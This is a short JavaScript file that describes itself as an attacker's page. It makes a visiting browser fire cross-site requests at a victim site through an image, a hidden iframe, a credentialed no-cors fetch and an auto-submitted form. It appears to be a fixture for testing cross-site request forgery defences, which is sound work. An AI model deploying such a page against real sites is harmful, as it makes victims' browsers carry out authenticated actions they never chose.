// The attacker's own page: it lets the visitor's browser send requests to the victim.
const { act, notebook, then } = document.body.dataset;

const image = () =>
  new Promise((done) => {
    const picture = new Image();
    picture.onload = picture.onerror = done;
    picture.src = `${act}/image?notebook=${notebook}`;
  });

const frame = () =>
  new Promise((done) => {
    const page = document.createElement("iframe");
    page.hidden = true;
    page.onload = done;
    page.src = `${act}/frame?notebook=${notebook}`;
    document.body.append(page);
  });

const script = () =>
  fetch(`${act}/fetch?notebook=${notebook}`, { method: "POST", mode: "no-cors", credentials: "include" });

addEventListener("load", () =>
  setTimeout(async () => {
    if (then === "link") {
      document.getElementById("link").click();
    } else {
      await image();
      await frame();
      await script();
      document.forms[0].submit();
    }
  }),
);
